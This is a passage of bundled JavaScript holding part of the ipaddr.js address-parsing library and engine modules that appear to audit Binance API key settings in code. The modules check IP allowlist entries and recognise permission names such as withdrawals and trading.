			if (ipaddr.IPv4.isValid(string) && string.match(/^(0|[1-9]\d*)(\.(0|[1-9]\d*)){3}$/)) return true;
			else return false;
		};
		ipaddr.IPv4.isValidCIDRFourPartDecimal = function(string) {
			const match = string.match(/^(.+)\/(\d+)$/);
			if (!ipaddr.IPv4.isValidCIDR(string) || !match) return false;
			return ipaddr.IPv4.isValidFourPartDecimal(match[1]);
		};
		ipaddr.IPv4.networkAddressFromCIDR = function(string) {
			let cidr, i, ipInterfaceOctets, octets, subnetMaskOctets;
			try {
				cidr = this.parseCIDR(string);
				ipInterfaceOctets = cidr[0].toByteArray();
				subnetMaskOctets = this.subnetMaskFromPrefixLength(cidr[1]).toByteArray();
				octets = [];
				i = 0;
				while (i < 4) {
					octets.push(parseInt(ipInterfaceOctets[i], 10) & parseInt(subnetMaskOctets[i], 10));
					i++;
				}
				return new this(octets);
			} catch (e) {
				throw new Error("ipaddr: the address does not have IPv4 CIDR format", { cause: e });
			}
		};
		ipaddr.IPv4.parse = function(string) {
			const parts = this.parser(string);
			if (parts === null) throw new Error("ipaddr: string is not formatted like an IPv4 Address");
			return new this(parts);
		};
		ipaddr.IPv4.parseCIDR = function(string) {
			let match;
			if (match = string.match(/^(.+)\/(\d+)$/)) {
				const maskLength = parseInt(match[2]);
				if (maskLength >= 0 && maskLength <= 32) {
					const parsed = [this.parse(match[1]), maskLength];
					Object.defineProperty(parsed, "toString", { value: function() {
						return this.join("/");
					} });
					return parsed;
				}
			}
			throw new Error("ipaddr: string is not formatted like an IPv4 CIDR range");
		};
		ipaddr.IPv4.parser = function(string) {
			let match, part, value;
			if (match = string.match(ipv4Regexes.fourOctet)) return (function() {
				const ref = match.slice(1, 6);
				const results = [];
				for (let i = 0; i < ref.length; i++) {
					part = ref[i];
					results.push(parseIntAuto(part));
				}
				return results;
			})();
			else if (match = string.match(ipv4Regexes.longValue)) {
				value = parseIntAuto(match[1]);
				if (value > 4294967295 || value < 0) throw new Error("ipaddr: address outside defined range");
				return (function() {
					const results = [];
					let shift = 0;
					for (; shift <= 24; shift += 8) results.push(value >> shift & 255);
					return results;
				})().reverse();
			} else if (match = string.match(ipv4Regexes.twoOctet)) return (function() {
				const ref = match.slice(1, 4);
				const results = [];
				value = parseIntAuto(ref[1]);
				if (value > 16777215 || value < 0) throw new Error("ipaddr: address outside defined range");
				results.push(parseIntAuto(ref[0]));
				results.push(value >> 16 & 255);
				results.push(value >> 8 & 255);
				results.push(value & 255);
				return results;
			})();
			else if (match = string.match(ipv4Regexes.threeOctet)) return (function() {
				const ref = match.slice(1, 5);
				const results = [];
				value = parseIntAuto(ref[2]);
				if (value > 65535 || value < 0) throw new Error("ipaddr: address outside defined range");
				results.push(parseIntAuto(ref[0]));
				results.push(parseIntAuto(ref[1]));
				results.push(value >> 8 & 255);
				results.push(value & 255);
				return results;
			})();
			else return null;
		};
		ipaddr.IPv4.subnetMaskFromPrefixLength = function(prefix) {
			prefix = parseInt(prefix);
			if (Number.isNaN(prefix) || prefix < 0 || prefix > 32) throw new Error("ipaddr: invalid IPv4 prefix length");
			const octets = [
				0,
				0,
				0,
				0
			];
			let j = 0;
			const filledOctetCount = Math.floor(prefix / 8);
			while (j < filledOctetCount) {
				octets[j] = 255;
				j++;
			}
			if (filledOctetCount < 4) octets[filledOctetCount] = Math.pow(2, prefix % 8) - 1 << 8 - prefix % 8;
			return new this(octets);
		};
		ipaddr.IPv6 = (function() {
			function IPv6(parts, zoneId) {
				let i, part;
				if (parts.length === 16) {
					this.parts = [];
					for (i = 0; i <= 14; i += 2) this.parts.push(parts[i] << 8 | parts[i + 1]);
				} else if (parts.length === 8) this.parts = parts;
				else throw new Error("ipaddr: ipv6 part count should be 8 or 16");
				for (i = 0; i < this.parts.length; i++) {
					part = this.parts[i];
					if (!(0 <= part && part <= 65535)) throw new Error("ipaddr: ipv6 part should fit in 16 bits");
				}
				if (zoneId) this.zoneId = zoneId;
			}
			IPv6.prototype.SpecialRanges = {
				unspecified: [new IPv6([
					0,
					0,
					0,
					0,
					0,
					0,
					0,
					0
				]), 128],
				linkLocal: [new IPv6([
					65152,
					0,
					0,
					0,
					0,
					0,
					0,
					0
				]), 10],
				multicast: [new IPv6([
					65280,
					0,
					0,
					0,
					0,
					0,
					0,
					0
				]), 8],
				loopback: [new IPv6([
					0,
					0,
					0,
					0,
					0,
					0,
					0,
					1
				]), 128],
				uniqueLocal: [new IPv6([
					64512,
					0,
					0,
					0,
					0,
					0,
					0,
					0
				]), 7],
				ipv4Mapped: [new IPv6([
					0,
					0,
					0,
					0,
					0,
					65535,
					0,
					0
				]), 96],
				deprecatedSiteLocal: [new IPv6([
					65216,
					0,
					0,
					0,
					0,
					0,
					0,
					0
				]), 10],
				discard: [new IPv6([
					256,
					0,
					0,
					0,
					0,
					0,
					0,
					0
				]), 64],
				rfc6145: [new IPv6([
					0,
					0,
					0,
					0,
					65535,
					0,
					0,
					0
				]), 96],
				rfc6052: [[new IPv6([
					100,
					65435,
					0,
					0,
					0,
					0,
					0,
					0
				]), 96], [new IPv6([
					100,
					65435,
					1,
					0,
					0,
					0,
					0,
					0
				]), 48]],
				"6to4": [new IPv6([
					8194,
					0,
					0,
					0,
					0,
					0,
					0,
					0
				]), 16],
				teredo: [new IPv6([
					8193,
					0,
					0,
					0,
					0,
					0,
					0,
					0
				]), 32],
				benchmarking: [new IPv6([
					8193,
					2,
					0,
					0,
					0,
					0,
					0,
					0
				]), 48],
				amt: [new IPv6([
					8193,
					3,
					0,
					0,
					0,
					0,
					0,
					0
				]), 32],
				as112v6: [[new IPv6([
					8193,
					4,
					274,
					0,
					0,
					0,
					0,
					0
				]), 48], [new IPv6([
					9760,
					79,
					32768,
					0,
					0,
					0,
					0,
					0
				]), 48]],
				deprecatedOrchid: [new IPv6([
					8193,
					16,
					0,
					0,
					0,
					0,
					0,
					0
				]), 28],
				orchid2: [new IPv6([
					8193,
					32,
					0,
					0,
					0,
					0,
					0,
					0
				]), 28],
				droneRemoteIdProtocolEntityTags: [new IPv6([
					8193,
					48,
					0,
					0,
					0,
					0,
					0,
					0
				]), 28],
				segmentRouting: [new IPv6([
					24320,
					0,
					0,
					0,
					0,
					0,
					0,
					0
				]), 16],
				reserved: [
					[new IPv6([
						8193,
						0,
						0,
						0,
						0,
						0,
						0,
						0
					]), 23],
					[new IPv6([
						8193,
						3512,
						0,
						0,
						0,
						0,
						0,
						0
					]), 32],
					[new IPv6([
						16383,
						0,
						0,
						0,
						0,
						0,
						0,
						0
					]), 20]
				]
			};
			IPv6.prototype.isIPv4MappedAddress = function() {
				return this.range() === "ipv4Mapped";
			};
			IPv6.prototype.kind = function() {
				return "ipv6";
			};
			IPv6.prototype.match = function(other, cidrRange) {
				let ref;
				if (cidrRange === void 0) {
					ref = other;
					other = ref[0];
					cidrRange = ref[1];
				}
				if (other.kind() !== "ipv6") throw new Error("ipaddr: cannot match ipv6 address with non-ipv6 one");
				return matchCIDR(this.parts, other.parts, 16, cidrRange);
			};
			IPv6.prototype.prefixLengthFromSubnetMask = function() {
				let cidr = 0;
				let stop = false;
				const zerotable = {
					0: 16,
					32768: 15,
					49152: 14,
					57344: 13,
					61440: 12,
					63488: 11,
					64512: 10,
					65024: 9,
					65280: 8,
					65408: 7,
					65472: 6,
					65504: 5,
					65520: 4,
					65528: 3,
					65532: 2,
					65534: 1,
					65535: 0
				};
				let part, zeros;
				for (let i = 7; i >= 0; i -= 1) {
					part = this.parts[i];
					if (part in zerotable) {
						zeros = zerotable[part];
						if (stop && zeros !== 0) return null;
						if (zeros !== 16) stop = true;
						cidr += zeros;
					} else return null;
				}
				return 128 - cidr;
			};
			IPv6.prototype.range = function() {
				return ipaddr.subnetMatch(this, this.SpecialRanges);
			};
			IPv6.prototype.toByteArray = function() {
				let part;
				const bytes = [];
				const ref = this.parts;
				for (let i = 0; i < ref.length; i++) {
					part = ref[i];
					bytes.push(part >> 8);
					bytes.push(part & 255);
				}
				return bytes;
			};
			IPv6.prototype.toFixedLengthString = function() {
				const addr = (function() {
					const results = [];
					for (let i = 0; i < this.parts.length; i++) results.push(padPart(this.parts[i].toString(16), 4));
					return results;
				}).call(this).join(":");
				let suffix = "";
				if (this.zoneId) suffix = `%${this.zoneId}`;
				return addr + suffix;
			};
			IPv6.prototype.toIPv4Address = function() {
				if (!this.isIPv4MappedAddress()) throw new Error("ipaddr: trying to convert a generic ipv6 address to ipv4");
				const ref = this.parts.slice(-2);
				const high = ref[0];
				const low = ref[1];
				return new ipaddr.IPv4([
					high >> 8,
					high & 255,
					low >> 8,
					low & 255
				]);
			};
			IPv6.prototype.toNormalizedString = function() {
				const addr = (function() {
					const results = [];
					for (let i = 0; i < this.parts.length; i++) results.push(this.parts[i].toString(16));
					return results;
				}).call(this).join(":");
				let suffix = "";
				if (this.zoneId) suffix = `%${this.zoneId}`;
				return addr + suffix;
			};
			IPv6.prototype.toRFC5952String = function() {
				const regex = /((^|:)(0(:|$)){2,})/g;
				let suffix = "";
				if (this.zoneId) suffix = `%${this.zoneId}`;
				const normalized = this.toNormalizedString();
				const string = normalized.slice(0, normalized.length - suffix.length);
				let bestMatchIndex = 0;
				let bestMatchLength = -1;
				let bestMatchGroups = -1;
				let match;
				while (match = regex.exec(string)) {
					const groups = (match[0].match(/0/g) || []).length;
					if (groups > bestMatchGroups) {
						bestMatchGroups = groups;
						bestMatchIndex = match.index;
						bestMatchLength = match[0].length;
					}
				}
				if (bestMatchLength < 0) return string + suffix;
				return `${string.substring(0, bestMatchIndex)}::${string.substring(bestMatchIndex + bestMatchLength)}${suffix}`;
			};
			IPv6.prototype.toString = function() {
				return this.toRFC5952String();
			};
			return IPv6;
		})();
		ipaddr.IPv6.broadcastAddressFromCIDR = function(string) {
			try {
				const cidr = this.parseCIDR(string);
				const ipInterfaceOctets = cidr[0].toByteArray();
				const subnetMaskOctets = this.subnetMaskFromPrefixLength(cidr[1]).toByteArray();
				const octets = [];
				let i = 0;
				while (i < 16) {
					octets.push(parseInt(ipInterfaceOctets[i], 10) | parseInt(subnetMaskOctets[i], 10) ^ 255);
					i++;
				}
				return new this(octets);
			} catch (e) {
				throw new Error("ipaddr: the address does not have IPv6 CIDR format", { cause: e });
			}
		};
		ipaddr.IPv6.isIPv6 = function(string) {
			return this.parser(string) !== null;
		};
		ipaddr.IPv6.isValid = function(string) {
			if (typeof string === "string" && string.indexOf(":") === -1) return false;
			try {
				const addr = this.parser(string);
				new this(addr.parts, addr.zoneId);
				return true;
			} catch {
				return false;
			}
		};
		ipaddr.IPv6.isValidCIDR = function(string) {
			if (typeof string === "string" && string.indexOf(":") === -1) return false;
			try {
				this.parseCIDR(string);
				return true;
			} catch {
				return false;
			}
		};
		ipaddr.IPv6.networkAddressFromCIDR = function(string) {
			let cidr, i, ipInterfaceOctets, octets, subnetMaskOctets;
			try {
				cidr = this.parseCIDR(string);
				ipInterfaceOctets = cidr[0].toByteArray();
				subnetMaskOctets = this.subnetMaskFromPrefixLength(cidr[1]).toByteArray();
				octets = [];
				i = 0;
				while (i < 16) {
					octets.push(parseInt(ipInterfaceOctets[i], 10) & parseInt(subnetMaskOctets[i], 10));
					i++;
				}
				return new this(octets);
			} catch (e) {
				throw new Error("ipaddr: the address does not have IPv6 CIDR format", { cause: e });
			}
		};
		ipaddr.IPv6.parse = function(string) {
			const addr = this.parser(string);
			if (addr === null) throw new Error("ipaddr: string is not formatted like an IPv6 Address");
			return new this(addr.parts, addr.zoneId);
		};
		ipaddr.IPv6.parseCIDR = function(string) {
			let maskLength, match, parsed;
			if (match = string.match(/^(.+)\/(\d+)$/)) {
				maskLength = parseInt(match[2]);
				if (maskLength >= 0 && maskLength <= 128) {
					parsed = [this.parse(match[1]), maskLength];
					Object.defineProperty(parsed, "toString", { value: function() {
						return this.join("/");
					} });
					return parsed;
				}
			}
			throw new Error("ipaddr: string is not formatted like an IPv6 CIDR range");
		};
		ipaddr.IPv6.parser = function(string) {
			let addr, i, match, octet, octets, zoneId;
			if (match = string.match(ipv6Regexes.deprecatedTransitional)) return this.parser(`::ffff:${match[1]}`);
			if (ipv6Regexes.native.test(string)) return expandIPv6(string, 8);
			if (match = string.match(ipv6Regexes.transitional)) {
				zoneId = match[6] || "";
				addr = match[1];
				if (!match[1].endsWith("::")) addr = addr.slice(0, -1);
				addr = expandIPv6(addr + zoneId, 6);
				if (addr && addr.parts) {
					octets = [
						parseInt(match[2]),
						parseInt(match[3]),
						parseInt(match[4]),
						parseInt(match[5])
					];
					for (i = 0; i < octets.length; i++) {
						octet = octets[i];
						if (!(0 <= octet && octet <= 255)) return null;
					}
					addr.parts.push(octets[0] << 8 | octets[1]);
					addr.parts.push(octets[2] << 8 | octets[3]);
					return {
						parts: addr.parts,
						zoneId: addr.zoneId
					};
				}
			}
			return null;
		};
		ipaddr.IPv6.subnetMaskFromPrefixLength = function(prefix) {
			prefix = parseInt(prefix);
			if (Number.isNaN(prefix) || prefix < 0 || prefix > 128) throw new Error("ipaddr: invalid IPv6 prefix length");
			const octets = [
				0,
				0,
				0,
				0,
				0,
				0,
				0,
				0,
				0,
				0,
				0,
				0,
				0,
				0,
				0,
				0
			];
			let j = 0;
			const filledOctetCount = Math.floor(prefix / 8);
			while (j < filledOctetCount) {
				octets[j] = 255;
				j++;
			}
			if (filledOctetCount < 16) octets[filledOctetCount] = Math.pow(2, prefix % 8) - 1 << 8 - prefix % 8;
			return new this(octets);
		};
		ipaddr.fromByteArray = function(bytes) {
			const length = bytes.length;
			if (length === 4) return new ipaddr.IPv4(bytes);
			else if (length === 16) return new ipaddr.IPv6(bytes);
			else throw new Error("ipaddr: the binary input is neither an IPv6 nor IPv4 address");
		};
		ipaddr.isValid = function(string) {
			return ipaddr.IPv6.isValid(string) || ipaddr.IPv4.isValid(string);
		};
		ipaddr.isValidCIDR = function(string) {
			return ipaddr.IPv6.isValidCIDR(string) || ipaddr.IPv4.isValidCIDR(string);
		};
		ipaddr.parse = function(string) {
			if (ipaddr.IPv6.isValid(string)) return ipaddr.IPv6.parse(string);
			else if (ipaddr.IPv4.isValid(string)) return ipaddr.IPv4.parse(string);
			else throw new Error("ipaddr: the address has neither IPv6 nor IPv4 format");
		};
		ipaddr.parseCIDR = function(string) {
			try {
				return ipaddr.IPv6.parseCIDR(string);
			} catch {
				try {
					return ipaddr.IPv4.parseCIDR(string);
				} catch (e) {
					throw new Error("ipaddr: the address has neither IPv6 nor IPv4 CIDR format", { cause: e });
				}
			}
		};
		ipaddr.process = function(string) {
			const addr = this.parse(string);
			if (addr.kind() === "ipv6" && addr.isIPv4MappedAddress()) return addr.toIPv4Address();
			else return addr;
		};
		ipaddr.subnetMatch = function(address, rangeList, defaultName) {
			let i, rangeName, rangeSubnets, subnet;
			if (defaultName === void 0 || defaultName === null) defaultName = "unicast";
			for (rangeName in rangeList) if (Object.prototype.hasOwnProperty.call(rangeList, rangeName)) {
				rangeSubnets = rangeList[rangeName];
				if (rangeSubnets[0] && !(rangeSubnets[0] instanceof Array)) rangeSubnets = [rangeSubnets];
				for (i = 0; i < rangeSubnets.length; i++) {
					subnet = rangeSubnets[i];
					if (address.kind() === subnet[0].kind() && address.match.apply(address, subnet)) return rangeName;
				}
			}
			return defaultName;
		};
		if (typeof module !== "undefined" && module.exports) module.exports = ipaddr;
		else root.ipaddr = ipaddr;
	})(this$1);
}));
// ../engine/dist/risks/settings/ip-list.js
var import_ipaddr = /* @__PURE__ */ require_rolldown_runtime.__toESM(require_ipaddr(), 1);
const kinds$1 = {
	unspecified: "any address",
	broadcast: "a broadcast address",
	multicast: "a multicast address",
	linkLocal: "a link-local address, which no other network sees",
	loopback: "this machine itself, which Binance never sees",
	private: "a private address, which Binance never sees: it sees the public one of the network",
	uniqueLocal: "a private address, which Binance never sees: it sees the public one of the network",
	carrierGradeNat: "an address inside a provider’s network (CGNAT), which Binance never sees",
	reserved: "an address reserved for documentation or tests"
};
/** What a guide writes where the reader’s own address goes. */
const placeholder = /^(?:your|my|the|some|<)|(?:here|[._-]ip|>)$|^x+(?:\.x+){3}$/i;
/** What is wrong with an entry, as a sentence fragment; undefined for a public address, and for what only a run tells. */
function faultOfAddress(entry) {
	const text = entry.trim().replace(/^\[([0-9a-f:.%\w]+)\]$/i, "$1");
	if (/^(?:\*|any|all)$/i.test(text)) return kinds$1["unspecified"];
	const slash = text.indexOf("/");
	const host = slash < 0 ? text : text.slice(0, slash);
	if (isAddress(host)) {
		const range = import_ipaddr.default.process(host).range();
		const any = range === "unspecified" ? kinds$1["unspecified"] : void 0;
		if (slash < 0) return kinds$1[range];
		if (/^\/(?:32|128)$/.test(text.slice(slash))) return kinds$1[range] ?? "written as a range (CIDR): Binance takes single addresses";
		return any ?? "a range of addresses (CIDR): Binance takes single ones";
	}
	if (placeholder.test(text)) return void 0;
	const port = /^(.+):\d{1,5}$/.exec(text)?.[1];
	if (port !== void 0 && isAddress(port)) return "an address with a port: Binance takes addresses";
	if (/^(?:\d{1,3}|\*|x)(?:\.(?:\d{1,3}|\*|x)){3}$/i.test(text)) return /[*x]/i.test(text) ? "a pattern: Binance takes single addresses" : "no address: a number is over 255";
	if (/^[\d.]+\s*-\s*[\d.]+$/.test(text)) return "a range of addresses: Binance takes single ones";
	if (/^(?:https?|wss?|tcp):\/\//i.test(text)) return "a URL: Binance takes addresses";
	if (/^\d{1,3}(?:\.\d{1,3}){1,2}\.?$/.test(text)) return "no whole address";
	if (/^localhost(?::\d{1,5})?$/i.test(text)) return kinds$1["loopback"];
	if (/^(?=.{4,253}$)(?:\*\.)?(?:[a-z0-9_](?:[a-z0-9_-]{0,61}[a-z0-9])?\.)+[a-z]{2,24}$/i.test(text)) return "a host name: Binance takes addresses";
}
/** Whether it is an address that stands for the reader’s own in a text: 192.0.2.0/24 and the like. */
function isOfDocumentation(entry) {
	const text = entry.trim();
	return isAddress(text) && import_ipaddr.default.process(text).range() === "reserved";
}
/** Whether the text is one address, written in full. */
function isAddress(text) {
	return text.includes(":") ? import_ipaddr.default.IPv6.isValid(text) : import_ipaddr.default.IPv4.isValidFourPartDecimal(text);
}
/** The same for every way of writing an address. */
function normalAddress(text) {
	const entry = text.trim();
	return isAddress(entry) ? import_ipaddr.default.process(entry).toNormalizedString() : entry.toLowerCase();
}
// ../engine/dist/risks/settings/ip-settings.js
/** What a setting of an IP list says: none, or which addresses. Whether these are any good is ip-list.ts’s question. */
const ipSwitch = /(?:iprestrict(?:ed|ion|ions)?|restrict(?:ed)?(?:to)?ips?|ip(?:white|allow)list(?:ed|enabled)|enableip(?:white|allow)list|iprestrictionenabled|ipaccess(?:restrict(?:ed|ion))?)$/;
/** The contrary: on, it leaves the key open. */
const ipOpen = /(?:allow|accept|permit)(?:any|all)ips?$|unrestrictedips?$|ip(?:is)?unrestricted$|(?:any|all)ips?(?:allowed|accepted)$/;
const ipList = /(?:(?:white|allow)list(?:ed)?ips?|ips?(?:white|allow)list(?:ed)?|(?:trusted|allow(?:ed)?|authori[sz]ed|approved|accepted|restricted|(?<!in|out)bound|permitted)ip(?:s|address|addresses|list)?|iplist|ipsallowed|ipallow(?:ed)?|accessips?|(?:key|binance)ips)$/;
const ipBare = /^(?:ips?|ipaddress(?:es)?|ipaddrs?|whitelist|allowlist|iprestrictions?)$/;
/** The address of a machine, or of a request, as well as a list: that it is a key’s must be told by what stands beside it. */
const ipOfOne = /^ip(?:addr(?:ess)?)?$/;
const typeArgument = String.raw`(?:<[^<>()\n]{0,60}>|\[\w{1,40}\])`;
const nothing$1 = String.raw`(?:\[\s*0?\s*\]|\(\s*0?\s*\)|\{\s*\})`;
const collection = String.raw`(?:(?:mutable|immutable|array|linked|hash|tree|frozen|unmodifiable)?_?(?:list|set|array|vec(?:tor)?|seq|sequence|slice|collection)(?:_?of)?|tuple|of|empty_?(?:list|set|array)?)`;
/** A list with nothing in it, in the languages that do not write `[]`, up to where the expression ends. */
const emptySource = new RegExp([
	"(?:new\\s+|const\\s+|&(?:mut\\s+)?)?(?:",
	[
		nothing$1,
		"new\\(\\)",
		"%[wWiI](?:\\[\\s*\\]|\\(\\s*\\)|\\{\\s*\\})",
		`(?:[A-Za-z_]\\w{0,40}(?:\\.|::)){0,4}${collection}!?${typeArgument}?(?:(?:\\.|::)(?:new|empty|of))?${typeArgument}?\\s*(?:\\(\\s*0?\\s*\\)|\\{\\s*\\})`,
		`vec!\\[\\s*\\]|new\\s+[\\w.]{1,60}${typeArgument}?\\s*\\[\\s*0?\\s*\\](?:\\s*\\{\\s*\\})?`,
		"List\\.empty\\[\\w{1,40}\\]",
		"(?:\\[\\s*\\])?\\s*(?:string|net\\.IP)\\s*(?:\\{\\s*\\}|\\(\\s*nil\\s*\\))",
		"make\\(\\s*\\[\\][\\w.]{1,40}\\s*,\\s*0\\s*(?:,\\s*\\d+\\s*)?\\)",
		"\\[\\w{1,40}\\]\\(\\s*\\)",
		"<\\w{1,40}>\\s*\\[\\s*\\]",
		"(?:[A-Za-z_]\\w{0,20}\\.)?(?:freeze|to_?set|to_?list|set|list|tuple|frozenset|array)\\(\\s*(?:\\[\\s*\\]|\\(\\s*\\)|\\{\\s*\\})\\s*\\)",
		"nil|null|none|undefined|~"
	].join("|"),
	")(?:\\s+as\\s+[\\w<>[\\]. ]{1,60})?(?:\\.(?:freeze|to_vec\\(\\)|into\\(\\)))?(?=\\s*(?:[;,)\\]}\\n#]|//|$))"
].join(""), "iy");
const anyone = /^(?:\*|\[\s*\]|\{\s*\}|any|all|none|no|false|off|unrestricted|disabled|open|public|everyone|everywhere|anywhere|0|null|nil|undefined|~)?$/i;
/** @param list the settings of one name in a group; @param hasRights whether a right is given beside them */
function ipSettingOf(list, hasRights, subject) {
	const { text } = subject.document;
	const named = list.find(({ path, span }) => !/^\d+$/.test(path.at(-1) ?? "") && !/^\??\s{0,9}=(?![=>])/.test(text.slice(span.end, span.end + 12)));
	const whole = named && {
		...named,
		span: withBrackets(named.span, text)
	};
	const isRepeated = list.length > 1 && (subject.reading.language === "xml" || list.every(({ value }) => value.kind === "text" && isAddress(value.text)));
	const items = list.filter(({ path, value }) => (isRepeated || /^\d+$/.test(path.at(-1) ?? "")) && value.kind === "text");
	const [first = whole] = list;
	if (!first) return [];
	const called = calledOf(first);
	const isSwitch = ipSwitch.test(first.name);
	if (ipOpen.test(first.name)) return switched(first.value) === "on" ? [{
		called,
		span: first.span,
		state: "off",
		entries: [],
		length: 0
	}] : [];
	const source = whole ? text.slice(whole.span.start, whole.span.end) : "";
	const off = (span) => isFilledLater(first, subject) ? [] : [{
		called,
		span,
		state: "off",
		entries: [],
		length: 0
	}];
	if (items.length === 0 && whole) {
		const { value, span } = whole;
		const word = wordOf(value)?.trim();
		if (value.kind === "list" && value.items.length === 0) return off(span);
		if (value.kind !== "text" && value.kind !== "scalar") {
			emptySource.lastIndex = span.start;
			if (emptySource.test(text)) return off({
				start: span.start,
				end: emptySource.lastIndex
			});
		}
		const inCall = value.kind === "ref" ? literalsOfCall(span, text) : [];
		if (inCall.some((one) => isAddressLike(one.text))) return [{
			called,
			span,
			state: "on",
			entries: inCall,
			length: 0
		}];
		const inSource = value.kind === "text" || word !== void 0 ? [] : literalsIn(source, span.start);
		if (value.kind === "ref" && word === void 0 && inSource.length === 0) return [];
		if (word !== void 0 && (anyone.test(word) || isSwitch && switched(value) === "off")) {
			const isBlank = /^(?:none|null|nil|undefined)?$/i.test(word);
			return word === "" && (span.start === span.end || value.kind === "scalar" || toldByPath(subject.document.path).sample) || isBlank && !hasRights && ipOfOne.test(first.name) ? [] : off(span);
		}
		if (isSwitch) return switched(value) === "on" ? [{
			called,
			span,
			state: "on",
			entries: [],
			length: 0
		}] : [];
		const told = value.kind === "text" ? wordsIn(value, span) : word !== void 0 && isAddress(word) ? [{
			text: word,
			span
		}] : argumentsIn(whole, subject);
		const entries = told.length > 0 ? told : inSource;
		if (entries.length === 0 || !entries.some(({ text }) => isAddressLike(text))) return [];
		return [{
			called,
			span,
			state: "on",
			entries,
			length: word?.length ?? 0
		}];
	}
	const entries = items.flatMap(({ value, span }) => value.kind === "text" ? wordsIn(value, span) : []);
	const [only] = entries;
	if (entries.length === 1 && only && anyone.test(only.text)) return off(only.span);
	if (!entries.some(({ text }) => isAddressLike(text))) return [];
	const start = whole?.span.start ?? items[0]?.container ?? 0;
	return [{
		called,
		span: whole?.span ?? {
			start,
			end: Math.max(items.at(-1)?.span.end ?? start, start)
		},
		state: "on",
		entries,
		length: 0
	}];
}
const longestFilling = 5e3;
/** `ips = []` and then `ips.append(…)`: what a program collects is told only when it runs. */
function isFilledLater({ via, path, span }, { document: { text }, reading: { language } }) {
	const name = path.at(-1) ?? "";
	if (via !== "assign" || !(language in languages) || language === "shell" || !/^[$@\w]+$/.test(name)) return false;
	const rest = text.slice(span.end, span.end + longestFilling);
	return new RegExp(String.raw`(?<![\w.])[$@]?${name.replace(/[$@]/g, "")}\s{0,9}(?:\.\s{0,9}(?:push|append|add|extend|insert|concat|unshift|update|emplace)\w{0,8}\s{0,9}[(<]|\+=|<<|\[[^\]\n]{0,40}\]\s{0,9}=(?!=)|:?=(?![=>~]))`, "i").test(rest);
}
/** `[]string{…}` of Go begins with its brackets, `%w[…]` of Ruby with its sign, `new …` with its word. */
function withBrackets({ start, end }, text) {
	if (text.slice(start - 4, start) === "new ") return {
		start: start - 4,
		end
	};
	if (text.slice(start - 3, start) === "[].") return {
		start: start - 3,
		end
	};
	if (text.charAt(start - 1) === "<" && /^>\s*\[/.test(text.slice(end, end + 4))) return {
		start: start - 1,
		end
	};
	const lead = text.slice(start - 2, start);
	return {
		start: lead === "[]" ? start - 2 : /%$/.test(lead) ? start - 1 : start,
		end
	};
}
/** Whether it is written as an address, a range or a host name is. */
function isAddressLike(text) {
	return isAddress(text.split("/")[0] ?? "") || /^(?:\d{1,3}|\*)(?:\.(?:\d{1,3}|\*)){3}/.test(text) || /^localhost$|\.[a-z]{2,}$/i.test(text);
}
/** A list that no reader takes for one: `vec!["…".into(), "…".into()]`, `%w[… …]`. */
const listInSource = /^&?(?:vec!\s*[[(]|%[wWiI][[({]|new\s+[\w<>]+(?:\[\])?\s*\{|\[|\{)/;
function literalsIn(source, start) {
	const open = source.length <= 4e3 ? listInSource.exec(source) : null;
	if (!open) return [];
	const items = open[0].startsWith("%") ? /[^\s[\](){}]+/g : /(["'])[^"'\n]{1,80}\1/g;
	return [...source.slice(open[0].length).matchAll(items)].map(({ 0: item, index }) => {
		const at = start + open[0].length + index;
		return {
			text: item.replace(/^["']|["']$/g, ""),
			span: {
				start: at,
				end: at + item.length
			}
		};
	});
}
/** `new HashSet<>(Arrays.asList("…", "…"))`, of which readers know the name alone. */
function literalsOfCall({ start, end }, text) {
	const rest = text.slice(end, end + longestList);
	const open = /^(?:<[^<>()]{0,60}>)?\(/.exec(rest)?.[0].length;
	if (open === void 0) return [];
	let level = 1;
	let at = open;
	for (; at < rest.length && level > 0; at += 1) level += rest.charAt(at) === "(" ? 1 : rest.charAt(at) === ")" ? -1 : 0;
	return literalsIn(`[${text.slice(start, end + at)}`, start - 1);
}
/** `["52.1.1.1", "52.1.1.2"]` in a format without lists: each with its quotes. */
function quotedIn(text) {
	return [...text.matchAll(/"[^"\n]*"|'[^'\n]*'|[^\s,;|[\](){}]+/g)].map(({ 0: whole, index }) => ({
		text: whole.replace(/^["']|["']$/g, ""),
		start: index,
		end: index + whole.length
	}));
}
/** The entries of one text: an only one with its quotes, several without. */
function wordsIn(value, span) {
	const parts = /^\s*\[.*[,"']/.test(value.text) ? quotedIn(value.text) : partsOf$1(value.text);
	if (parts.length === 1 && parts[0].text === value.text.trim()) return [{
		text: parts[0].text,
		span
	}];
	return parts.map(({ text, start, end }) => ({
		text,
		span: require_worth_reading.sourceSpan(value, {
			start,
			end
		})
	}));
}
/** A list is made by one call, or by one for each entry. */
const mostCalls = 1e3;
/** `List.of("…", "…")`, `[]string{"…"}`: the texts of the call that the value is. */
function argumentsIn({ span }, { reading }) {
	return callsWithin(reading, span, mostCalls).flatMap(({ args }) => args).flatMap(({ value, span: at }) => value.kind === "text" ? wordsIn(value, at) : []);
}
const longestGiven$1 = 600;
/** The addresses that a request is given, each where it stands: of a text, and of texts that are joined there. */
function entriesGiven(value, span, text) {
	if (value.kind === "text" && value.pieces.length > 0) return wordsIn(value, span);
	const source = text.slice(span.start, Math.min(span.end, span.start + longestGiven$1));
	if (value.kind !== "text") return literalsIn(`[${source}`, span.start - 1);
	const at = span.start + source.indexOf(value.text);
	const parts = partsOf$1(value.text);
	if (parts.length === 1) return [{
		text: parts[0].text,
		span
	}];
	return parts.map(({ text: entry, start, end }) => ({
		text: entry,
		span: {
			start: at + start,
			end: at + end
		}
	}));
}
// ../engine/dist/risks/settings/rights.js
/** Names of rights, in every style of writing, and the lists that they stand in: `enableWithdrawals`, `permissions: [read, withdraw]`. */
const giving = "(?:enable|allow|permit|grant)(?:s|d|ed)?";
const withdrawing = "withdraw(?:al)?s?";
/** Of their own enough, whatever stands beside them. */
const strong = [
	["withdraw", new RegExp(`${giving}${withdrawing}$|(?<!can)${withdrawing}(?:enabled|allowed|permitted|permissions?|rights?)$`)],
	["transfer", new RegExp(`(?:permits?|${giving}|can)(?:universal|internal|funds?|asset)?transfers?$|(?:universal|internal|funds)transfers?(?:enabled|allowed)?$`)],
	["margin", new RegExp(`${giving}margin(?:trading|loan)?$`)],
	["futures", new RegExp(`${giving}futures?(?:trading)?$`)],
	["options", new RegExp(`${giving}(?:vanilla|european)?options?(?:trading)?$`)],
	["trade", new RegExp(`${giving}(?:spot(?:andmargin)?|portfoliomargin|fixapi)?trad(?:e|ing)$|${giving}spot$`)],
	["read", new RegExp(`${giving}(?:read(?:ing|only)?|fixreadonly)$`)]
